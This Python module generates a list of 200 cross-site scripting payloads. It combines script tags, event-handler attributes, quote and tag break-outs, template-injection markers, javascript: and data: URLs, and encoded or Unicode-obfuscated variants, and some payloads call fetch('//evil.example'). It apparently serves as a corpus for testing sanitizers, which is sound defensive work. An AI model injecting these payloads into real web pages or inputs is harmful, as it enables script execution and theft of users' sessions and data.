"""Strings that try to become script, made by combining what opens, what runs and what closes."""

from __future__ import annotations

from itertools import product

_RUN = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example')")
_WHOLE = (
    "<script>{}</script>", "<ScRiPt\n>{}</sCrIpT >", "<img src=x onerror={}>", "<img/src=x/onerror={}//", 
    "<svg onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<a href='javascript:{}'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<object data='javascript:{}'>", "<base href='//evil.example/'><script>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href='data:text/css,{}'>",
    "<style>@import '//evil.example';</style><script>{}</script>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<textarea></textarea><script>{}</script>",
    "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?xml version='1.0'?><script>{}</script>",
    "<video><source onerror={}>", "<marquee onstart={}>", "<form action=javascript:{}><button>x",
    "<xss style=x onclick={}>",
    "<img src=`x` onerror=`{}`>", "<dialog open onclose={}>", "<isindex type=image src=1 onerror={}>",
    "<div style='background:url(javascript:{})'>", "<embed src='data:text/html,<script>{}</script>'>",
)  # fmt: skip
_BREAK = (
    "'",
    '"',
    "`",
    "' ",
    '" ',
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    '\\"',
)
_AFTER = (" onmouseover={} x=", "<script>{}</script>", " autofocus onfocus={} ")
_TEMPLATES = ("{{{{{}}}}}", "{{{{7*7}}}}{}", "${{{}}}", "#{{{}}}", "{{% print({}) %}}", "{{{{ self.__init__ }}}}{}")
_ADDRESSES = ("javascript:{}", " javascript:{}", "java\tscript:{}", "JAVASCRIPT:{}", 
              "data:text/html,<script>{}</script>",
              "vbscript:{}", "//evil.example/{}")  # fmt: skip
_ODD = ("\u202e<script>{}</script>", "\ufeff<script>{}</script>", "<scr\x00ipt>{}</script>", "＜script＞{}＜/script＞",
        "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<<script>{}//<</script>")  # fmt: skip

_ALL = [
    *(form.format(run) for form, run in zip(_WHOLE, _RUN * 9, strict=False)),
    *(form.format(_RUN[0]) for form in _WHOLE),
    *(start + after.format(_RUN[0]) for start, after in product(_BREAK, _AFTER)),
    *(start + whole.format(_RUN[1]) for start, whole in product(_BREAK[:7], _WHOLE[:8])),
    *(form.format(run) for form, run in product((*_TEMPLATES, *_ADDRESSES, *_ODD), _RUN[:2])),
]
STRINGS = list(dict.fromkeys(_ALL))[:200]
"""200 of them."""
assert len(STRINGS) == 200
